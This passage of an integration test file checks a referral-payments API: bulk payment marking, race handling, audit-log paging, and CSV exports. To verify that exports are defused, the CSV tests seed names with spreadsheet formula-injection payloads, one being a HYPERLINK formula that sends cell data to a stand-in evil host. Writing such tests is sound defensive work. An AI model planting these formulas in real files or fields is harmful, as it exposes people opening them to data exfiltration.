    const res = await payAll({ clientId: martha.id, year: 2024, month: 5 }, admin.cookie);
    const to = Date.now();
    expect(res.status).toBe(200);
    expect(res.body.total).toBe(350.25);
    expect(res.body.paid.map((r: { id: string }) => r.id)).toEqual([m3, m1, m2]);
    for (const r of res.body.paid) {
      expect(r).toMatchObject({ referrerId: martha.id, status: 'Payment Due', rewardPaid: true, paid: true });
      expect(new Date(r.paidAt).getTime()).toBeGreaterThanOrEqual(from - 1000);
      expect(new Date(r.paidAt).getTime()).toBeLessThanOrEqual(to + 1000);
    }
    const entry = (referralName: string, amount: number) => ({
      id: expect.any(String),
      timestamp: expect.stringMatching(ISO),
      action: 'payment_marked',
      clientName: 'Martha Jones',
      referralName,
      amount,
      performedBy: admin.email,
      details: null,
    });
    expect(res.body.auditEntries).toEqual([
      entry('Grace Hopper', 100),
      entry('Ada Lovelace', 200),
      entry('Alan Turing', 50.25),
    ]);

    // In the database: those three paid, one entry each, by the caller; nothing else touched.
    for (const id of [m1, m2, m3])
      expect(await rowOf(id)).toMatchObject({ rewardPaid: true, paidAt: expect.any(Date) });
    for (const id of untouched) expect(await rowOf(id)).toMatchObject({ rewardPaid: false, paidAt: null });
    expect(await auditCount()).toBe(before + 3);
    const entries = await entriesOf([m1, m2, m3]);
    expect(entries).toHaveLength(3);
    expect(new Set(entries.map((e) => e.referralId))).toEqual(new Set([m1, m2, m3]));
    for (const e of entries) {
      expect(e).toMatchObject({
        action: 'payment_marked',
        clientId: martha.id,
        clientName: 'Martha Jones',
        performedBy: admin.email,
        performedById: admin.id,
      });
    }
    expect((await entriesOf([m1])).at(0)?.amountPence).toBe(20_000);
    expect((await entriesOf([m2])).at(0)?.amountPence).toBe(5_025);
    // The one paid earlier keeps its single entry and its payer.
    const old = await entriesOf([alreadyPaid]);
    expect(old).toHaveLength(1);
    expect(old[0]).toMatchObject({ id: earlier.auditEntry.id, performedBy: staff.email });
    expect(await entriesOf(untouched)).toEqual([]);

    // The report now shows the month fully paid for Martha.
    const after = groupOf((await report(2024, 5)).body, martha.id);
    expect(after).toMatchObject({ totalOwed: 0, totalPaid: 550.25 });

    // A second Pay All pays nothing and writes nothing.
    const again = await payAll({ clientId: martha.id, year: 2024, month: 5 }, admin2.cookie);
    expect(again.status).toBe(200);
    expect(again.body).toEqual({ paid: [], auditEntries: [], total: 0 });
    expect(await auditCount()).toBe(before + 3);
  });

  it('answers 200 with nothing paid for a client with nothing owed that month', async () => {
    const client = await newClient('owen', 'nothing');
    await conversion(client, { at: '2024-06-10T10:00:00Z' });
    const before = await auditCount();
    const res = await payAll({ clientId: client.id, year: 2024, month: 4 });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ paid: [], auditEntries: [], total: 0 });
    expect(await auditCount()).toBe(before);
  });

  it('answers 404 for an unknown client, paying nothing', async () => {
    const before = await auditCount();
    const unpaidBefore = await db.referral.count({ where: { rewardPaid: false } });
    const res = await payAll({ clientId: '0192f5e0-0000-7000-8000-000000000000', year: 2024, month: 5 });
    expect(res.status).toBe(404);
    expect(res.body).toEqual({ message: CLIENT_NOT_FOUND_TEXT });
    expect(await auditCount()).toBe(before);
    expect(await db.referral.count({ where: { rewardPaid: false } })).toBe(unpaidBefore);
  });

  it('pays each referral exactly once, with one entry each, when Pay All and single payments race', async () => {
    const client = await newClient('rita', 'race');
    const ids: string[] = [];
    for (let i = 0; i < 5; i += 1) {
      ids.push(await conversion(client, { lead: ['Race', `Number${i}`], at: `2024-07-1${i}T10:00:00Z` }));
    }
    const body = { clientId: client.id, year: 2024, month: 7 };
    const results = await Promise.all([
      payAll(body, admin.cookie),
      payAll(body, admin2.cookie),
      markPaid(ids[1]!, staff.cookie),
      payAll(body, admin.cookie),
      markPaid(ids[3]!, staff.cookie),
      payAll(body, admin2.cookie),
    ]);
    const bulk = [results[0]!, results[1]!, results[3]!, results[5]!];
    const single = [results[2]!, results[4]!];
    for (const r of bulk) expect(r.status).toBe(200);
    for (const r of single) {
      expect([200, 409]).toContain(r.status);
      if (r.status === 409) expect(r.body.message).toBe(ALREADY_PAID_TEXT);
    }
    const paidIds = [
      ...bulk.flatMap((r) => r.body.paid.map((p: { id: string }) => p.id)),
      ...single.filter((r) => r.status === 200).map((r) => r.body.referral.id),
    ];
    expect([...paidIds].sort()).toEqual([...ids].sort()); // each exactly once
    expect(bulk.reduce((sum, r) => sum + r.body.auditEntries.length, 0)).toBe(
      bulk.reduce((sum, r) => sum + r.body.paid.length, 0),
    );

    const entries = await entriesOf(ids);
    expect(entries).toHaveLength(5);
    expect(new Set(entries.map((e) => e.referralId)).size).toBe(5);
    for (const e of entries) expect(e.action).toBe('payment_marked');
    for (const id of ids) expect((await rowOf(id)).rewardPaid).toBe(true);
  });

  it('is all or nothing: when one audit entry cannot be written, no referral is paid and no entry is kept', async () => {
    const client = await newClient('rose', 'tyler');
    const ids = [
      await conversion(client, { lead: ['Jackie', 'Tyler'], at: '2024-08-03T10:00:00Z' }),
      await conversion(client, { lead: ['Boom', 'Town'], at: '2024-08-10T10:00:00Z' }),
      await conversion(client, { lead: ['Pete', 'Tyler'], at: '2024-08-20T10:00:00Z' }),
    ];
    const before = await auditCount();

    await db.$executeRawUnsafe(`
      CREATE FUNCTION it_refuse_boom_town() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN
        IF NEW."referralName" = 'Boom Town' THEN
          RAISE EXCEPTION 'audit entry refused by the test';
        END IF;
        RETURN NEW;
      END $$`);
    await db.$executeRawUnsafe(`
      CREATE TRIGGER it_refuse_boom_town BEFORE INSERT ON payment_audit_entries
      FOR EACH ROW EXECUTE FUNCTION it_refuse_boom_town()`);
    const errorLog = jest.spyOn(console, 'error').mockImplementation(() => undefined);
    try {
      const res = await payAll({ clientId: client.id, year: 2024, month: 8 });
      expect(res.status).toBe(500);
      expect(res.body).toEqual({ message: SERVER_ERROR_TEXT });
    } finally {
      errorLog.mockRestore();
      await db.$executeRawUnsafe('DROP TRIGGER IF EXISTS it_refuse_boom_town ON payment_audit_entries');
      await db.$executeRawUnsafe('DROP FUNCTION IF EXISTS it_refuse_boom_town()');
    }

    for (const id of ids) expect(await rowOf(id)).toMatchObject({ rewardPaid: false, paidAt: null });
    expect(await entriesOf(ids)).toEqual([]);
    expect(await auditCount()).toBe(before);

    // With the fault gone, the same call pays all three.
    const res = await payAll({ clientId: client.id, year: 2024, month: 8 });
    expect(res.status).toBe(200);
    expect(res.body.paid.map((r: { id: string }) => r.id)).toEqual(ids);
    expect(await entriesOf(ids)).toHaveLength(3);
  });
});

// ---------- the audit log ----------

describe('GET /api/payments/audit', () => {
  let client: ClientDto;
  let ids: string[];
  beforeAll(async () => {
    client = await newClient('lena', 'ledger');
    ids = [];
    for (let i = 0; i < 5; i += 1) {
      ids.push(
        await conversion(client, {
          lead: ['Log', `Entry${i}`],
          amount: 10 + i,
          at: `2024-10-0${i + 1}T10:00:00Z`,
        }),
      );
    }
    // Pay All writes five entries in one transaction (the same timestamp), then two undos and a re-payment.
    const res = await payAll({ clientId: client.id, year: 2024, month: 10 });
    if (res.status !== 200) throw new Error(`pay-all failed: ${res.status}`);
    expect((await undoPayment(ids[0]!, admin.cookie)).status).toBe(200);
    expect((await undoPayment(ids[4]!, admin2.cookie)).status).toBe(200);
    await paid(ids[0]!);
  });

  const allExpected = () =>
    db.paymentAuditEntry.findMany({ orderBy: [{ createdAt: 'desc' }, { id: 'desc' }] });

  async function readAll(limit: number) {
    const seen: { id: string; timestamp: string }[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const query: string = `?limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`;
      const res = await auditPage(query);
      expect(res.status).toBe(200);
      expect(res.body.entries.length).toBeLessThanOrEqual(limit);
      if (res.body.nextCursor !== null) expect(res.body.entries).toHaveLength(limit);
      seen.push(...res.body.entries);
      cursor = res.body.nextCursor;
      pages += 1;
      if (pages > 1000) throw new Error('paging does not end');
    } while (cursor);
    return { seen, pages };
  }

  it('answers the newest entries first, in the audit entry shape', async () => {
    const res = await auditPage();
    expect(res.status).toBe(200);
    const total = await auditCount();
    expect(res.body.entries).toHaveLength(Math.min(total, 50));
    expect(res.body.nextCursor).toEqual(total > 50 ? expect.any(String) : null);
    const [newest, second, third] = res.body.entries;
    expect(newest).toEqual({
      id: expect.any(String),
      timestamp: expect.stringMatching(ISO),
      action: 'payment_marked',
      clientName: 'Lena Ledger',
      referralName: 'Log Entry0',
      amount: 10,
      performedBy: staff.email,
      details: null,
    });
    expect(second).toMatchObject({
      action: 'payment_undone',
      referralName: 'Log Entry4',
      amount: 14,
      performedBy: admin2.email,
    });
    expect(third).toMatchObject({
      action: 'payment_undone',
      referralName: 'Log Entry0',
      performedBy: admin.email,
    });
    const times = res.body.entries.map((e: { timestamp: string }) => e.timestamp);
    expect([...times].sort().reverse()).toEqual(times);
  });

  it.each([1, 2, 3, 7])(
    'pages with limit=%i through every entry exactly once, ending with a null nextCursor',
    async (limit) => {
      const expected = (await allExpected()).map((e) => e.id);
      const { seen, pages } = await readAll(limit);
      expect(seen.map((e) => e.id)).toEqual(expected);
      expect(new Set(seen.map((e) => e.id)).size).toBe(seen.length);
      expect(pages).toBe(Math.max(1, Math.ceil(expected.length / limit)));
    },
  );

  it('answers a null nextCursor when the last page is exactly full', async () => {
    const total = await auditCount();
    expect(total).toBeLessThanOrEqual(200);
    const res = await auditPage(`?limit=${total}`);
    expect(res.body.entries).toHaveLength(total);
    expect(res.body.nextCursor).toBeNull();
  });

  it('keeps paging stable when new entries are written between pages', async () => {
    const expected = (await allExpected()).map((e) => e.id);
    const first = await auditPage('?limit=4');
    expect(first.body.entries.map((e: { id: string }) => e.id)).toEqual(expected.slice(0, 4));
    // A new payment arrives while the user reads.
    const newcomer = await conversion(client, { lead: ['Late', 'Comer'], at: '2024-10-20T10:00:00Z' });
    await paid(newcomer);
    const seen = [...first.body.entries];
    let cursor = first.body.nextCursor as string | null;
    while (cursor) {
      const res = await auditPage(`?limit=4&cursor=${encodeURIComponent(cursor)}`);
      seen.push(...res.body.entries);
      cursor = res.body.nextCursor;
    }
    expect(seen.map((e: { id: string }) => e.id)).toEqual(expected);
  });
});

// ---------- CSV exports ----------

describe('GET /api/payments/report.csv', () => {
  it("is the month's payments as a report for the clinic: one row per conversion, escaped and defused", async () => {
    const quoted = await rawNamedClient('Jane "JJ"', "O'Neil, Jr", { bank: true });
    await conversion(quoted, { lead: ['Amy', 'Pond, "Doc"'], amount: 200, at: '2024-09-30T22:30:00Z' });
    const q2 = await conversion(quoted, {
      lead: ['Rory', 'Williams'],
      amount: 200,
      at: '2024-09-05T08:00:00Z',
    });
    await paid(q2);
    const hyperName = '=HYPERLINK("http://evil.example/?q="&A1,"Click")';
    const hyper = await rawNamedClient(hyperName, 'Evil');
    await conversion(hyper, { lead: ['@SUM(1)', 'Lead'], amount: 75.5, at: '2024-09-15T12:00:00Z' });
    const at = await rawNamedClient('@SUM(1)', 'Jones');
    await conversion(at, { lead: ['-2+3', 'Cmd'], amount: 1250, at: '2024-09-01T00:30:00Z' });
    const plus = await rawNamedClient('+44 7700', 'Plus');
    await conversion(plus, { lead: ['Plain', 'Name'], amount: 0.5, at: '2024-09-20T12:00:00Z' });
    // Not September in the UK: 00:30 BST on 1 October.
    await conversion(quoted, { lead: ['Next', 'Month'], at: '2024-09-30T23:30:00Z' });

    // Every client with details here has the same test account as this one (no payments this month).
    const twin = await newClient('twin', 'account', { bank: true });
    const res = await download(reportCsvRoute, '/api/payments/report.csv?year=2024&month=9');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv\b/);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="referral-report-2024-09.csv"');
    expect(res.bytes.subarray(0, 3)).toEqual(BOM);
    const text = res.text.slice(1);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r]/);

    const [header, ...allColumns] = parseCsv(text);
    // The last column notes holds and shared accounts: every client with details here has the same test account.
    for (const r of allColumns) {
      expect(r[8]).toEqual(r[1] ? expect.stringContaining(twin.cardNumber) : '');
    }
    const rows = allColumns.map((r) => r.slice(0, 8));
    expect(header).toEqual([
      'Client',
      'Sort code',
      'Account number',
      'Amount (GBP)',
      'Card number',
      'Status',
      'Referral',
      'Story started (UK time) in September 2024',
      'Bank details',
    ]);
    const expected = [
      [
        `Jane "JJ" O'Neil, Jr`,
        '12-34-56',
        '12345678',
        '200.00',
        quoted.cardNumber,
        'Owed',
        'Amy Pond, "Doc"',
        '30/09/2024, 23:30',
      ],
      [
        `Jane "JJ" O'Neil, Jr`,
        '12-34-56',
        '12345678',
        '200.00',
        quoted.cardNumber,
        'Paid',
        'Rory Williams',
        '05/09/2024, 09:00',
      ],
      [`'${hyperName} Evil`, '', '', '75.50', hyper.cardNumber, 'Owed', "'@SUM(1) Lead", '15/09/2024, 13:00'],
      ["'@SUM(1) Jones", '', '', '1250.00', at.cardNumber, 'Owed', "'-2+3 Cmd", '01/09/2024, 01:30'],
      ["'+44 7700 Plus", '', '', '0.50', plus.cardNumber, 'Owed', 'Plain Name', '20/09/2024, 13:00'],
    ];
    expect([...rows].sort()).toEqual([...expected].sort());
    // Each client's rows together, in conversion order.
    const quotedRows = rows.filter((r) => r[0] === expected[0]![0]);
    expect(quotedRows.map((r) => r[6])).toEqual(['Rory Williams', 'Amy Pond, "Doc"']);
    expect(rows.findIndex((r) => r[0] === expected[0]![0]) + 1).toBe(
      rows.findIndex((r) => r[6] === 'Amy Pond, "Doc"'),
    );
    for (const r of rows) {
      expect(r[4]).toMatch(CARD);
      expect(r[4]!.length).toBeLessThanOrEqual(18);
    }

    // The raw text: quotes doubled, the formula defused inside its quoted cell.
    expect(text).toContain(`"Jane ""JJ"" O'Neil, Jr","12-34-56","12345678","200.00"`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"") Evil"`);
    expect(text).not.toMatch(/(^|,)"[=+\-@]/m);
  });

  it('answers an empty month with the header only, and a zero-padded filename', async () => {
    const res = await download(reportCsvRoute, '/api/payments/report.csv?year=2024&month=1');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="referral-report-2024-01.csv"');
    expect(res.bytes.subarray(0, 3)).toEqual(BOM);
    const rows = parseCsv(res.text.slice(1));
    expect(rows).toHaveLength(1);
    expect(rows[0]![0]).toBe('Client');
  });
});

describe('GET /api/payments/audit.csv', () => {
  it('is the whole log, newest first, with a dated filename, escaped and defused', async () => {
    const hyperName = '=HYPERLINK("http://evil.example","x")';
    const client = await rawNamedClient(hyperName, 'Evil');
    const id = await conversion(client, {
      lead: ['Comma, Quote "Q"', 'Lead'],
      amount: 99.99,
      at: '2024-12-10T10:00:00Z',
    });
    const marked = await paid(id);
    // A known time for one entry: 23:30 BST on 31 July 2025.
    await db.paymentAuditEntry.update({
      where: { id: marked.auditEntry.id },
      data: { createdAt: new Date('2025-07-31T22:30:00Z') },
    });
    const undone = await undoPayment(id, admin.cookie);
    expect(undone.status).toBe(200);

    const from = Date.now();
    const res = await download(auditCsvRoute, '/api/payments/audit.csv');
    const to = Date.now();
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv\b/);
    const disposition = res.headers.get('content-disposition') ?? '';
    const match = /^attachment; filename="payment-audit-log-(\d{4}-\d{2}-\d{2})\.csv"$/.exec(disposition);
    expect(match).not.toBeNull();
    expect([...datesOf(from), ...datesOf(to)]).toContain(match![1]);
    expect(res.bytes.subarray(0, 3)).toEqual(BOM);

    const [header, ...rows] = parseCsv(res.text.slice(1));
    expect(header).toEqual([
      'Date and time (UK)',
      'Action',
      'Client',
      'Referral',
      'Amount (GBP)',
      'Performed by',
      'Details',
    ]);
    expect(rows).toHaveLength(await auditCount());

    expect(rows[0]).toEqual([
      formatDateTime(undone.body.auditEntry.timestamp),
      'Undone',
      `'${hyperName} Evil`,
      'Comma, Quote "Q" Lead',
      '99.99',
      admin.email,
      '',
    ]);
    expect(rows).toContainEqual([
      '31/07/2025, 23:30',
      'Paid',
      `'${hyperName} Evil`,
      'Comma, Quote "Q" Lead',
      '99.99',
      staff.email,
      '',
    ]);
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example"",""x"") Evil"`);
    expect(res.text).toContain(`"Comma, Quote ""Q"" Lead"`);
  });

  it('lists every entry exactly once, newest first, even past a thousand entries', async () => {
    const now = Date.now();
    await db.paymentAuditEntry.createMany({
      data: Array.from({ length: 1_050 }, (_, i) => ({
        action: i % 3 ? ('payment_marked' as const) : ('payment_undone' as const),
        clientName: 'Bulk Client',
        referralName: `Bulk ${String(i).padStart(4, '0')}`,
        amountPence: 100 + i,
        performedBy: 'bulk@clinic.test',
        // Some share a timestamp, so paging must break ties.
        createdAt: new Date(now - 10 * DAY - Math.floor(i / 4) * 60_000),
      })),
    });
    const expected = (
      await db.paymentAuditEntry.findMany({ orderBy: [{ createdAt: 'desc' }, { id: 'desc' }] })
    ).map((e) => [
      formatDateTime(e.createdAt),
      { payment_marked: 'Paid', payment_undone: 'Undone', bank_details_changed: 'Bank details changed' }[
        e.action as string
      ] ?? e.action,
      /^[=+\-@]/.test(e.clientName) ? `'${e.clientName}` : e.clientName,
      /^[=+\-@]/.test(e.referralName) ? `'${e.referralName}` : e.referralName,
      e.action.startsWith('payment_') ? (e.amountPence / 100).toFixed(2) : '',
      e.performedBy,
      e.details ?? '',
    ]);
    expect(expected.length).toBeGreaterThan(1_050);

    const res = await download(auditCsvRoute, '/api/payments/audit.csv');
    expect(res.status).toBe(200);
    const [, ...rows] = parseCsv(res.text.slice(1));
    expect(rows).toEqual(expected);
    const bulk = rows.filter((r) => r[2] === 'Bulk Client').map((r) => r[3]);
    expect(new Set(bulk).size).toBe(1_050);
  });
});
